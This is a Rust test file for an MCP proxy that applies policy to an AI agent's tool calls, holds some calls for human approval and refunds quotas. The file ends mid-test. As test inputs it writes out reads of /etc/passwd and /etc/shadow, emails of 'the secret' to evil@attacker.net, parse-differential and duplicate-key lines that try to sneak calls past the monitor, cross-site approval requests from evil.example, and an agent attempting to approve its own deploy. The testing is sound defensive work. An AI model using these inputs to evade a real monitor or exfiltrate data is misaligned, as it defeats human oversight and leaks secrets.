//! `agenra mcp-proxy` (the built binary) between this test, acting as the
//! MCP client over pipes, and `tests/mcp/fake_server.py` (needs `python3`):
//! messages pass through unchanged, allowed `tools/call`s reach the server,
//! denied and paused ones never do, a failed call refunds its unit, and
//! garbage does not stop the proxy. With `--on-pause wait`, paused calls
//! are held and settled through the approval endpoints (over HTTP, with
//! the gateway's test client), by a timeout or by a cancellation. Every
//! read has a timeout, so a hang fails the test instead of blocking it.

#[path = "mcp/harness.rs"]
mod harness;

use harness::{
    approval, approve, is_error, mcp_dir, text, wait_for_approvals, Credentials, Proxy, BIN,
};
use serde_json::{json, Value};
use std::io::Write;
use std::process::{Command, Stdio};
use std::time::Duration;

/// What the fake server itself answers, byte for byte, when asked directly.
fn direct(lines: &[&str]) -> Vec<String> {
    let mut child = Command::new("python3")
        .arg(mcp_dir().join("fake_server.py"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3 is needed for this test");
    {
        let mut stdin = child.stdin.take().unwrap();
        for l in lines {
            writeln!(stdin, "{l}").unwrap();
        }
    }
    let out = child.wait_with_output().unwrap();
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect()
}

#[test]
fn initialize_and_tools_list_pass_through_unchanged() {
    let init = r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"0"}}}"#;
    let list = r#"{"jsonrpc":"2.0","id":2,"method":"tools/list","params":{}}"#;
    let expected = direct(&[init, list]);
    assert_eq!(expected.len(), 2);

    // `tools/list` answers are forwarded unchanged with --show-all-tools
    // (without it, the tools the policy never grants are hidden:
    // tests/mcp_lifecycle.rs).
    let mut p = Proxy::start_with("passthrough", &["--show-all-tools"]);
    p.send_line(init);
    assert_eq!(p.recv_line(), expected[0]);
    // A notification gets no answer and is forwarded too.
    p.send_line(r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#);
    p.send_line(list);
    assert_eq!(p.recv_line(), expected[1]);
    assert_eq!(p.finish(), 0);
}

#[test]
fn allowed_call_reaches_the_server_and_its_result_comes_back() {
    let mut p = Proxy::start("allowed");
    let answer = p.call(7, "read_file", json!({"path": "docs/readme.md"}));
    assert!(!is_error(&answer), "{answer}");
    assert_eq!(text(&answer), r#"read_file ok: {"path": "docs/readme.md"}"#);
    assert_eq!(p.server_calls(), ["read_file"]);
    // A string id works the same way.
    let msg = json!({"jsonrpc": "2.0", "id": "abc", "method": "tools/call",
                     "params": {"name": "publish", "arguments": {"text": "hi"}}});
    p.send_line(&msg.to_string());
    let answer = p.recv();
    assert_eq!(answer["id"], json!("abc"));
    assert!(!is_error(&answer), "{answer}");
    assert_eq!(p.server_calls(), ["read_file", "publish"]);
    assert_eq!(p.finish(), 0);
}

#[test]
fn denied_call_never_reaches_the_server() {
    let mut p = Proxy::start("denied");
    // No grant covers this path.
    let answer = p.call(1, "read_file", json!({"path": "/etc/passwd"}));
    assert!(is_error(&answer), "{answer}");
    assert!(text(&answer).contains("DENY"), "{answer}");
    assert!(text(&answer).contains("`no-grant`"), "{answer}");
    assert!(p.server_calls().is_empty());

    // Mail is fine before anything untrusted was read...
    let answer = p.call(2, "send_email", json!({"to": "a@example.com", "body": "x"}));
    assert!(!is_error(&answer), "{answer}");
    // ...and denied by the flow rule once a file was read.
    let answer = p.call(3, "read_file", json!({"path": "docs/a.md"}));
    assert!(!is_error(&answer), "{answer}");
    let answer = p.call(4, "send_email", json!({"to": "a@example.com", "body": "x"}));
    assert!(is_error(&answer), "{answer}");
    let t = text(&answer);
    assert!(t.contains("DENY by rule `no_untrusted_mail`"), "{t}");
    assert_eq!(p.server_calls(), ["send_email", "read_file"]);

    // An unknown tool is denied as ill-formed, and not forwarded: the
    // JSON-RPC error MCP gives for an unknown tool (-32602), as a server
    // would answer it, not a tool result.
    let answer = p.call(5, "rm_rf", json!({}));
    assert_eq!(answer["error"]["code"], json!(-32602), "{answer}");
    assert!(answer.get("result").is_none(), "{answer}");
    let message = answer["error"]["message"].as_str().unwrap();
    assert!(message.starts_with("Unknown tool: rm_rf"), "{message}");
    assert!(message.contains("`well-formed`"), "{message}");
    assert_eq!(p.server_calls(), ["send_email", "read_file"]);
    assert_eq!(p.finish(), 0);
}

#[test]
fn paused_call_is_answered_with_an_approval_error() {
    let mut p = Proxy::start("paused");
    let answer = p.call(1, "deploy", json!({"target": "prod"}));
    assert!(is_error(&answer), "{answer}");
    let t = text(&answer);
    assert!(t.contains("PAUSE by rule `deploy_reviewed`"), "{t}");
    assert!(t.contains("approval"), "{t}");
    assert!(p.server_calls().is_empty());
    assert_eq!(p.finish(), 0);
}

#[test]
fn quota_is_spent_once_and_refunded_when_the_server_fails() {
    let mut p = Proxy::start("quota");
    let answer = p.call(1, "publish", json!({"text": "a"}));
    assert!(!is_error(&answer), "{answer}");
    let answer = p.call(2, "publish", json!({"text": "b"}));
    assert!(is_error(&answer), "{answer}");
    assert!(text(&answer).contains("no quota left"), "{answer}");
    assert_eq!(p.server_calls(), ["publish"]);

    // `flaky` has one unit; the server fails it (isError), so the unit
    // comes back and the next call is allowed again.
    for id in 3..6 {
        let answer = p.call(id, "flaky", json!({"text": "x"}));
        assert!(is_error(&answer), "{answer}");
        assert_eq!(text(&answer), "flaky failed", "{answer}");
    }
    assert_eq!(p.server_calls(), ["publish", "flaky", "flaky", "flaky"]);

    // A JSON-RPC error from the server refunds the unit as well.
    for id in 6..8 {
        let answer = p.call(id, "crash", json!({"text": "x"}));
        assert_eq!(answer["error"]["message"], json!("crashed"), "{answer}");
    }
    assert_eq!(
        p.server_calls(),
        ["publish", "flaky", "flaky", "flaky", "crash", "crash"]
    );
    assert_eq!(p.finish(), 0);
}

#[test]
fn garbage_lines_do_not_stop_the_proxy() {
    let mut p = Proxy::start("garbage");
    // Not JSON: the proxy answers a parse error itself (it might be a
    // tools/call to a lenient server) and forwards nothing.
    p.send_line("{not json");
    let answer = p.recv();
    assert_eq!(answer["error"]["code"], json!(-32700), "{answer}");
    assert_eq!(answer["id"], Value::Null, "{answer}");
    // The server prints a line that is not JSON: it reaches the client unchanged.
    p.send_line(r#"{"jsonrpc":"2.0","method":"raw-garbage"}"#);
    assert_eq!(p.recv_line(), "this is not json");
    // Malformed tools/call requests are answered by the proxy.
    p.send_line(r#"{"jsonrpc":"2.0","id":9,"method":"tools/call","params":{"arguments":{}}}"#);
    let answer = p.recv();
    assert_eq!(answer["id"], json!(9));
    assert_eq!(answer["error"]["code"], json!(-32602), "{answer}");
    p.send_line(r#"{"jsonrpc":"2.0","id":10,"method":"tools/call","params":{"name":"publish","arguments":[1]}}"#);
    let answer = p.recv();
    assert_eq!(answer["id"], json!(10));
    assert!(answer.get("error").is_some(), "{answer}");
    // A tools/call notification is dropped, not forwarded.
    p.send_line(r#"{"jsonrpc":"2.0","method":"tools/call","params":{"name":"publish","arguments":{"text":"n"}}}"#);
    // A batch would smuggle a tools/call past the monitor: refused whole.
    p.send_line(
        r#"[{"jsonrpc":"2.0","id":12,"method":"tools/call","params":{"name":"publish","arguments":{"text":"b"}}}]"#,
    );
    let answer = p.recv();
    assert_eq!(answer["error"]["code"], json!(-32600), "{answer}");
    // Non-object JSON and invalid UTF-8 do not stop it either.
    p.send_line("[1,2,3]");
    p.send_line("42");
    p.send_bytes(b"\xff\xfe\n");
    // The proxy answers the last one with a parse error.
    let answer = p.recv();
    assert_eq!(answer["error"]["code"], json!(-32700), "{answer}");
    // Still working.
    let answer = p.call(11, "read_file", json!({"path": "docs/x"}));
    assert!(!is_error(&answer), "{answer}");
    assert_eq!(p.server_calls(), ["read_file"]);
    assert_eq!(p.finish(), 0);
}

/// A tools/call with a duplicated key is ambiguous (a server keeping the
/// first `path` would read another file than the monitor checked): refused
/// and never forwarded.
#[test]
fn a_call_with_duplicate_keys_is_refused() {
    let mut p = Proxy::start("duplicates");
    p.send_line(
        r#"{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"/etc/shadow","path":"docs/readme.md"}}}"#,
    );
    let answer = p.recv();
    assert_eq!(answer["id"], json!(3));
    assert_eq!(answer["error"]["code"], json!(-32600), "{answer}");
    assert!(
        answer["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("duplicate key `path`")),
        "{answer}"
    );
    // The proxy goes on, and the server saw nothing but the next call.
    let answer = p.call(4, "read_file", json!({"path": "docs/readme.md"}));
    assert!(!is_error(&answer), "{answer}");
    assert_eq!(p.server_calls(), ["read_file"]);
    assert_eq!(p.finish(), 0);
}

// ---- `--on-pause wait`: paused calls wait for the approval endpoints ----

#[test]
fn approved_call_is_forwarded_and_its_result_comes_back() {
    let (mut p, mut http) = Proxy::start_waiting("wait-approve", "30");
    p.send_call(1, "deploy", json!({"target": "prod"}));
    let list = wait_for_approvals(&mut http, 1);
    assert_eq!(list[0]["call"], json!("mcp-1:1"), "{list:?}");
    assert_eq!(list[0]["tool"], json!("deploy"));
    assert_eq!(list[0]["rule"], json!("deploy_reviewed"));
    assert_eq!(list[0]["tenant"], json!("default"));
    assert_eq!(list[0]["session"], json!("mcp-proxy"));
    let (status, health) = http.get("/health").unwrap();
    assert_eq!(status, 200);
    assert_eq!(health["pending_approvals"], json!(1), "{health}");
    // Held: no answer yet, and the server has not seen it.
    p.assert_silent();
    assert!(p.server_calls().is_empty());

    let (status, out) = approve(&mut http, "mcp-1:1");
    assert_eq!(status, 200, "{out}");
    assert_eq!(out["kind"], json!("approve"));
    assert_eq!(out["decision"], json!("ALLOW"), "{out}");
    assert_eq!(out["session"], json!("mcp-proxy"));
    let answer = p.recv();
    assert_eq!(answer["id"], json!(1), "{answer}");
    assert!(!is_error(&answer), "{answer}");
    assert_eq!(text(&answer), r#"deploy ok: {"target": "prod"}"#);
    assert_eq!(p.server_calls(), ["deploy"]);
    // Settled: approving again is a conflict, and nothing waits.
    let (status, out) = approve(&mut http, "mcp-1:1");
    assert_eq!(status, 409, "{out}");
    assert_eq!(out["field"], json!("call"));
    assert!(wait_for_approvals(&mut http, 0).is_empty());
    assert_eq!(p.finish(), 0);
}

#[test]
fn rejected_call_never_runs_and_its_unit_comes_back() {
    let (mut p, mut http) = Proxy::start_waiting("wait-reject", "30");
    p.send_call(1, "release", json!({"target": "v1"}));
    wait_for_approvals(&mut http, 1);
    // An empty body is fine, as with `agenra serve`.
    let (status, body) = http
        .request("POST", "/v1/approvals/mcp-1:1/reject", b"")
        .unwrap();
    let out: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(status, 200, "{out}");
    assert_eq!(out["kind"], json!("reject"));
    assert_eq!(out["refunded"], json!(["release_reviewed"]), "{out}");
    let answer = p.recv();
    assert_eq!(answer["id"], json!(1), "{answer}");
    assert!(is_error(&answer), "{answer}");
    let t = text(&answer);
    assert!(t.contains("PAUSE by rule `release_reviewed`"), "{t}");
    assert!(t.contains("a human rejected it"), "{t}");
    assert!(p.server_calls().is_empty());

    // `quota 1`: without the refund this would be denied at once.
    p.send_call(2, "release", json!({"target": "v2"}));
    let list = wait_for_approvals(&mut http, 1);
    assert_eq!(list[0]["call"], json!("mcp-2:2"), "{list:?}");
    let mut body = approval(&mut http, "mcp-2:2");
    body["tenant"] = json!("default");
    let (status, out) = http.post("/v1/approvals/mcp-2:2/approve", &body).unwrap();
    assert_eq!((status, &out["decision"]), (200, &json!("ALLOW")), "{out}");
    let answer = p.recv();
    assert_eq!(answer["id"], json!(2), "{answer}");
    assert!(!is_error(&answer), "{answer}");
    assert_eq!(p.server_calls(), ["release"]);
    // The unit is spent now.
    let answer = p.call(3, "release", json!({"target": "v3"}));
    assert!(text(&answer).contains("no quota left"), "{answer}");
    assert_eq!(p.finish(), 0);
}

#[test]
fn a_call_nobody_approves_times_out() {
    let (mut p, mut http) = Proxy::start_waiting("wait-timeout", "1");
    let start = std::time::Instant::now();
    p.send_call(1, "release", json!({"target": "v1"}));
    let answer = p.recv();
    assert!(start.elapsed() >= Duration::from_millis(900), "{answer}");
    assert_eq!(answer["id"], json!(1), "{answer}");
    assert!(is_error(&answer), "{answer}");
    let t = text(&answer);
    assert!(t.contains("PAUSE by rule `release_reviewed`"), "{t}");
    assert!(t.contains("no approval came within 1 s"), "{t}");
    assert!(t.contains("timed out"), "{t}");
    assert!(p.server_calls().is_empty());
    assert!(wait_for_approvals(&mut http, 0).is_empty());
    let (status, out) = approve(&mut http, "mcp-1:1");
    assert_eq!(status, 409, "{out}");
    // The timeout refunded the unit: the next release pauses again.
    p.send_call(2, "release", json!({"target": "v2"}));
    let answer = p.recv();
    assert_eq!(answer["id"], json!(2), "{answer}");
    assert!(text(&answer).contains("timed out"), "{answer}");
    assert_eq!(p.finish(), 0);
}

/// A waiting call blocks nothing: pings and other calls are answered
/// meanwhile, and the approval is re-checked against what happened since
/// (here a file was read, so the announcement's e-mail is now denied).
#[test]
fn a_waiting_call_does_not_block_other_traffic() {
    let (mut p, mut http) = Proxy::start_waiting("wait-hol", "30");
    p.send_call(1, "announce", json!({"to": "all@example.com"}));
    wait_for_approvals(&mut http, 1);
    p.send_line(r#"{"jsonrpc":"2.0","id":2,"method":"ping"}"#);
    let answer = p.recv();
    assert_eq!(answer["id"], json!(2), "{answer}");
    let answer = p.call(3, "read_file", json!({"path": "docs/a.md"}));
    assert!(!is_error(&answer), "{answer}");
    // The id of a waiting call is still in use.
    let answer = p.call(1, "read_file", json!({"path": "docs/b.md"}));
    assert_eq!(answer["error"]["code"], json!(-32600), "{answer}");
    assert_eq!(p.server_calls(), ["read_file"]);

    let (status, out) = approve(&mut http, "mcp-1:1");
    assert_eq!(status, 200, "{out}");
    assert_eq!(out["decision"], json!("DENY"), "{out}");
    assert_eq!(out["rule"], json!("no_untrusted_mail"), "{out}");
    let answer = p.recv();
    assert_eq!(answer["id"], json!(1), "{answer}");
    assert!(is_error(&answer), "{answer}");
    let t = text(&answer);
    assert!(t.contains("DENY by rule `no_untrusted_mail`"), "{t}");
    assert!(t.contains("approved by a human, then re-checked"), "{t}");
    assert_eq!(p.server_calls(), ["read_file"]);
    assert_eq!(p.finish(), 0);
}

/// `notifications/cancelled` for a waiting call rejects it: no answer (MCP
/// asks for none after a cancellation), the server never sees the call or
/// the notification, and the unit comes back.
#[test]
fn a_cancelled_waiting_call_is_rejected() {
    let (mut p, mut http) = Proxy::start_waiting("wait-cancel", "30");
    p.send_call(1, "release", json!({"target": "v1"}));
    wait_for_approvals(&mut http, 1);
    p.send_line(
        r#"{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1,"reason":"user"}}"#,
    );
    wait_for_approvals(&mut http, 0);
    // The next answer is the ping's: the cancelled call got none.
    p.send_line(r#"{"jsonrpc":"2.0","id":2,"method":"ping"}"#);
    let answer = p.recv();
    assert_eq!(answer["id"], json!(2), "{answer}");
    p.send_call(3, "release", json!({"target": "v1"}));
    let list = wait_for_approvals(&mut http, 1);
    assert_eq!(list[0]["call"], json!("mcp-2:3"), "{list:?}");
    assert!(p.server_calls().is_empty());
    assert_eq!(p.finish(), 0);
}

#[test]
fn bad_approval_requests_get_json_errors() {
    let (mut p, mut http) = Proxy::start_waiting("wait-errors", "30");
    let (status, out) = approve(&mut http, "mcp-9:9");
    assert_eq!(status, 404, "{out}");
    assert_eq!(out["field"], json!("call"), "{out}");
    assert!(out["error"].as_str().unwrap().contains("mcp-9:9"), "{out}");
    let (status, out) = http
        .post("/v1/approvals/mcp-9:9/reject", &json!({}))
        .unwrap();
    assert_eq!(status, 404, "{out}");

    p.send_call(1, "deploy", json!({"target": "prod"}));
    wait_for_approvals(&mut http, 1);
    // Another session or tenant: 404, as for `agenra serve`.
    let (status, out) = http
        .post(
            "/v1/approvals/mcp-1:1/approve",
            &json!({"session": "other"}),
        )
        .unwrap();
    assert_eq!((status, &out["field"]), (404, &json!("session")), "{out}");
    // A tenant the approver's credential does not serve: 403.
    let (status, out) = http
        .post("/v1/approvals/mcp-1:1/approve", &json!({"tenant": "acme"}))
        .unwrap();
    assert_eq!((status, &out["field"]), (403, &json!("tenant")), "{out}");
    let (status, out) = http.get("/v1/approvals?tenant=acme").unwrap();
    assert_eq!((status, &out["field"]), (403, &json!("tenant")), "{out}");
    // Bodies and names are checked like the gateway's.
    let (status, out) = http
        .post("/v1/approvals/mcp-1:1/approve", &json!({"bogus": 1}))
        .unwrap();
    assert_eq!((status, &out["field"]), (422, &json!("bogus")), "{out}");
    let (status, out) = http
        .post("/v1/approvals/mcp-1:1/approve", &json!({"tenant": "a/b"}))
        .unwrap();
    assert_eq!((status, &out["field"]), (403, &json!("tenant")), "{out}");
    let (status, body) = http
        .request("POST", "/v1/approvals/mcp-1:1/approve", b"{not json")
        .unwrap();
    assert_eq!(status, 400, "{}", String::from_utf8_lossy(&body));
    // A claimed time far from the server's clock.
    let mut body = approval(&mut http, "mcp-1:1");
    body["time"] = json!(0);
    let (status, out) = http.post("/v1/approvals/mcp-1:1/approve", &body).unwrap();
    assert_eq!((status, &out["field"]), (422, &json!("time")), "{out}");
    // An approval names the digest it was shown, and a reason.
    let (status, out) = http
        .post("/v1/approvals/mcp-1:1/approve", &json!({"reason": "ok"}))
        .unwrap();
    assert_eq!((status, &out["field"]), (422, &json!("digest")), "{out}");
    let mut body = approval(&mut http, "mcp-1:1");
    body["reason"] = json!("  ");
    let (status, out) = http.post("/v1/approvals/mcp-1:1/approve", &body).unwrap();
    assert_eq!((status, &out["field"]), (422, &json!("reason")), "{out}");
    let (status, out) = http
        .post(
            "/v1/approvals/mcp-1:1/approve",
            &json!({"digest": "sha256:00", "reason": "looks fine"}),
        )
        .unwrap();
    assert_eq!((status, &out["field"]), (409, &json!("digest")), "{out}");
    // Only the approval endpoints are served.
    let (status, out) = http.post("/v1/authorize", &json!({})).unwrap();
    assert_eq!((status, &out["field"]), (404, &json!("path")), "{out}");
    let (status, out) = http.get("/v1/approvals/mcp-1:1/approve").unwrap();
    assert_eq!((status, &out["field"]), (405, &json!("method")), "{out}");
    // None of that settled the call.
    p.assert_silent();
    assert_eq!(wait_for_approvals(&mut http, 1).len(), 1);
    assert!(p.server_calls().is_empty());
    assert_eq!(p.finish(), 0);
}

/// Runs `agenra mcp-proxy` with `flags` and a server that must never
/// start; returns the exit code and standard error.
fn refused(flags: &[&str]) -> (i32, String) {
    let out = Command::new(BIN)
        .arg("mcp-proxy")
        .arg("--policy")
        .arg(mcp_dir().join("policy.agr"))
        .args(flags)
        .arg("--")
        .arg("python3")
        .arg("-c")
        .arg("import sys; sys.exit(42)")
        .stdin(Stdio::null())
        .output()
        .expect("run agenra mcp-proxy");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn pause_flags_are_validated() {
    let (code, err) = refused(&["--on-pause", "wait"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("--on-pause wait needs --approvals-listen"),
        "{err}"
    );
    let (code, err) = refused(&["--approvals-listen", "127.0.0.1:0"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("--approvals-listen is only used with --on-pause wait"),
        "{err}"
    );
    let (code, err) = refused(&["--pause-timeout", "5"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("--pause-timeout is only used with --on-pause wait"),
        "{err}"
    );
    let wait = ["--on-pause", "wait", "--approvals-listen", "127.0.0.1:0"];
    let (code, err) = refused(&[&wait[..], &["--pause-timeout", "0"]].concat());
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("--pause-timeout must be at least 1 second"),
        "{err}"
    );
    let (code, err) = refused(&["--on-pause", "later"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("later"), "{err}");
    let (code, err) = refused(&[
        "--on-pause",
        "wait",
        "--approvals-listen",
        "not-an-address",
        "--insecure-no-auth",
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("cannot listen on not-an-address"), "{err}");
}

/// Finding 2 and 3 of the perimeter issue: the agent reaches the proxy's
/// loopback approval port, and so does any web page the user opens. Only
/// an approver's credential settles a call; a cross-site request never
/// does, whatever its content type.
#[test]
fn only_an_approver_settles_and_never_cross_site() {
    let (mut p, mut http, creds) = Proxy::start_waiting_with("wait-perimeter", "30");
    p.send_call(1, "deploy", json!({"target": "prod"}));
    let list = wait_for_approvals(&mut http, 1);
    let digest = list[0]["digest"].clone();
    assert!(digest.as_str().unwrap().starts_with("sha256:"), "{list:?}");
    assert_eq!(list[0]["args"], json!({"target": "prod"}), "{list:?}");
    assert!(list[0]["expires"].as_u64().unwrap() > list[0]["time"].as_u64().unwrap());
    let body = json!({"digest": digest, "reason": "self-approval"}).to_string();
    let addr = http.addr();
    let raw = |request: String| -> (u16, String) {
        use std::io::Read;
        let mut s = std::net::TcpStream::connect(addr).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        s.write_all(request.as_bytes()).unwrap();
        let mut out = String::new();
        let _ = s.read_to_string(&mut out);
        let status = out
            .split_whitespace()
            .nth(1)
            .and_then(|c| c.parse().ok())
            .unwrap_or(0);
        (status, out)
    };
    let post = |headers: &str, content_type: &str| {
        raw(format!(
            "POST /v1/approvals/mcp-1:1/approve HTTP/1.1\r\nHost: {addr}\r\n{headers}Content-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        ))
    };
    // No credential, a wrong one, the agent's own, another tenant's approver.
    let (status, out) = post("", "application/json");
    assert_eq!(status, 401, "{out}");
    assert!(
        out.contains("WWW-Authenticate: Bearer") || out.contains("www-authenticate: Bearer"),
        "{out}"
    );
    assert!(out.contains("\"field\":\"authorization\""), "{out}");
    let (status, out) = post("Authorization: Bearer agr_0000\r\n", "application/json");
    assert_eq!(status, 401, "{out}");
    let agent = format!("Authorization: Bearer {}\r\n", creds.agent);
    let (status, out) = post(&agent, "application/json");
    assert_eq!(status, 403, "{out}");
    assert!(out.contains("approver"), "{out}");
    let admin = format!("Authorization: Bearer {}\r\n", creds.admin);
    assert_eq!(post(&admin, "application/json").0, 403);
    // Another tenant's approver finds nothing of its own, and may not
    // name this tenant.
    let bob = format!("Authorization: Bearer {}\r\n", creds.other_approver);
    let (status, out) = post(&bob, "application/json");
    assert_eq!(status, 404, "{out}");
    let (status, out) = raw(format!(
        "GET /v1/approvals?tenant=default HTTP/1.1\r\nHost: {addr}\r\n{bob}Connection: close\r\n\r\n"
    ));
    assert_eq!(status, 403, "{out}");
    // A web page: a simple (text/plain) cross-site POST, with or without
    // the approver's credential, from a foreign Origin or a rebound Host.
    let alice = format!("Authorization: Bearer {}\r\n", creds.approver);
    let (status, out) = post("Origin: https://evil.example\r\n", "text/plain");
    assert_eq!(status, 403, "{out}");
    let (status, out) = post(
        &format!("{alice}Origin: https://evil.example\r\n"),
        "application/json",
    );
    assert_eq!(status, 403, "{out}");
    assert!(out.contains("\"field\":\"origin\""), "{out}");
    let (status, out) = post(
        &format!("{alice}Sec-Fetch-Site: cross-site\r\n"),
        "application/json",
    );
    assert_eq!(status, 403, "{out}");
    let (status, out) = post(&alice, "text/plain");
    assert_eq!(status, 415, "{out}");
    let (status, out) = raw(format!(
        "POST /v1/approvals/mcp-1:1/approve HTTP/1.1\r\nHost: evil.example:{}\r\n{alice}Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        addr.port(),
        body.len()
    ));
    assert_eq!(status, 403, "{out}");
    assert!(out.contains("\"field\":\"host\""), "{out}");
    // None of it settled the call; listing needs the approver too.
    p.assert_silent();
    let (status, _) = raw(format!(
        "GET /v1/approvals HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
    ));
    assert_eq!(status, 401);
    assert_eq!(wait_for_approvals(&mut http, 1).len(), 1);
    assert!(p.server_calls().is_empty());
    // The approver's own approval, same-origin, works once.
    let (status, out) = post(
        &format!("{alice}Origin: http://{addr}\r\n"),
        "application/json",
    );
    assert_eq!(status, 200, "{out}");
    assert!(out.contains("\"decision\":\"ALLOW\""), "{out}");
    let answer = p.recv();
    assert!(!is_error(&answer), "{answer}");
    assert_eq!(post(&alice, "application/json").0, 409);
    assert_eq!(p.finish(), 0);
}

#[test]
fn the_approval_endpoints_need_credentials() {
    let wait = ["--on-pause", "wait", "--approvals-listen", "127.0.0.1:0"];
    let (code, err) = refused(&wait);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("no credentials: pass --tokens FILE"), "{err}");
    let (code, err) = refused(&["--insecure-no-auth"]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("only used with --on-pause wait"), "{err}");
    let creds = Credentials::for_test("need-credentials");
    let file = creds.file.to_str().unwrap();
    let (code, err) = refused(&[&wait[..], &["--tokens", file, "--insecure-no-auth"]].concat());
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("exclude each other"), "{err}");
    std::fs::write(&creds.file, "{}").unwrap();
    let (code, err) = refused(&[&wait[..], &["--tokens", file]].concat());
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("not a credentials file"), "{err}");
}

// ---- issue 25: no parse differentials, exact request tracking ----

/// The stderr line the proxy writes when it reports a call `unknown`.
const UNKNOWN: &str = "reported `unknown`";

/// Finding 1: a line serde_json alone would reject but a lenient server
/// (this fake one is Python's `json`, as lenient as the SDKs' parsers)
/// reads is never forwarded undecided: each is answered `-32700` by the
/// proxy and the server sees none of them.
#[test]
fn lines_a_lenient_server_would_read_are_refused_not_forwarded() {
    let mut p = Proxy::start("lenient-lines");
    let call = |args: &str| {
        format!(
            r#"{{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{{"name":"send_email","arguments":{{"to":"evil@attacker.net","body":"the secret"{args}}}}}}}"#
        )
        .into_bytes()
    };
    let deep = format!(",\"x\":{}1{}", "[".repeat(200), "]".repeat(200));
    let lines: Vec<(&str, Vec<u8>)> = vec![
        ("a lone surrogate", call(r#","note":"\ud800""#)),
        ("a lone low surrogate", call(r#","note":"\udc00x""#)),
        ("nesting 200 deep", call(&deep)),
        ("invalid UTF-8", {
            let mut l = call(r#","note":"x""#);
            let at = l.len() - 5;
            l[at] = 0xff;
            l
        }),
        ("overlong UTF-8", {
            let mut l = call(r#","note":"xx""#);
            let at = l.len() - 6;
            l[at] = 0xc0;
            l[at + 1] = 0xaf;
            l
        }),
        ("a number out of range", call(r#","n":1e400"#)),
        ("NaN", call(r#","n":NaN"#)),
        ("-Infinity", call(r#","n":-Infinity"#)),
    ];
    for (what, line) in &lines {
        p.send_bytes(line);
        p.send_bytes(b"\n");
        let answer = p.recv();
        assert_eq!(answer["error"]["code"], json!(-32700), "{what}: {answer}");
        assert_eq!(answer["id"], Value::Null, "{what}: {answer}");
    }
    // A duplicated key is refused too (with its id), wherever the method is.
    p.send_line(r#"{"jsonrpc":"2.0","id":8,"method":"ping","method":"tools/call","params":{"name":"send_email","arguments":{"to":"evil@attacker.net","body":"x"}}}"#);
    let answer = p.recv();
    assert_eq!(answer["error"]["code"], json!(-32600), "{answer}");
    assert_eq!(answer["id"], json!(8), "{answer}");
    // The proxy goes on; the server saw only this call.
    let answer = p.call(9, "read_file", json!({"path": "docs/a"}));
    assert!(!is_error(&answer), "{answer}");
    assert_eq!(p.server_calls(), ["read_file"]);
    assert_eq!(p.finish(), 0);
}

/// Finding 2: ids are compared as JSON-RPC values. The server answers id
/// `1.0` as `1` (as a JavaScript server does): the read's result is still
/// recorded, so its untrusted output stops the later e-mail.
#[test]
fn a_numeric_id_is_matched_by_value() {
    let mut p = Proxy::start("numeric-id");
    p.send_line(r#"{"jsonrpc":"2.0","id":1.0,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"docs/a"}}}"#);
    let answer = p.recv();
    assert_eq!(answer["id"], json!(1), "{answer}");
    assert!(!is_error(&answer), "{answer}");
    // `1` is that same id, answered already: free again.
    let answer = p.call(1, "send_email", json!({"to": "a@example.com", "body": "x"}));
    assert!(is_error(&answer), "{answer}");
    assert!(text(&answer).contains("no_untrusted_mail"), "{answer}");
    assert_eq!(p.server_calls(), ["read_file"]);
    assert_eq!(p.finish(), 0);
}

/// Finding 3: an answer the proxy cannot parse exactly (a lone surrogate
/// the server relays from outside) still reaches the client, and its call
/// is reported `unknown`: the read's untrusted label is kept.
#[test]
fn an_answer_the_proxy_cannot_parse_is_reported_unknown() {
    let mut p = Proxy::start("unparseable-answer");
    p.send_call(1, "read_file", json!({"path": "docs/lone-surrogate"}));
    let line = p.recv_line();
    assert!(line.contains(r"\ud800"), "{line}");
    let answer = p.call(2, "send_email", json!({"to": "a@example.com", "body": "x"}));
    assert!(is_error(&answer), "{answer}");
    assert!(text(&answer).contains("no_untrusted_mail"), "{answer}");
    p.stderr_line(UNKNOWN);
    assert_eq!(p.server_calls(), ["read_file"]);
    assert_eq!(p.finish(), 0);
}

/// An answer whose id not even a lenient reading finds (`NaN` in it):
/// every call in flight is reported `unknown`, so the label is kept.
#[test]
fn an_answer_without_a_readable_id_makes_the_calls_in_flight_unknown() {
    let mut p = Proxy::start("nan-answer");
    p.send_call(1, "read_file", json!({"path": "docs/nan"}));
    let line = p.recv_line();
    assert!(line.contains("NaN"), "{line}");
    let answer = p.call(2, "send_email", json!({"to": "a@example.com", "body": "x"}));
    assert!(is_error(&answer), "{answer}");
    assert!(text(&answer).contains("no_untrusted_mail"), "{answer}");
    p.stderr_line(UNKNOWN);
    assert_eq!(p.finish(), 0);
}

/// A response to a call that is not a tools/call result (no `content`
/// list) is reported `unknown`, never `succeeded`.
#[test]
fn an_answer_that_is_not_a_tool_result_is_reported_unknown() {
    let mut p = Proxy::start("not-a-result");
    p.send_call(1, "read_file", json!({"path": "docs/no-content"}));
    let answer = p.recv();
    assert_eq!(answer["result"], json!({}), "{answer}");
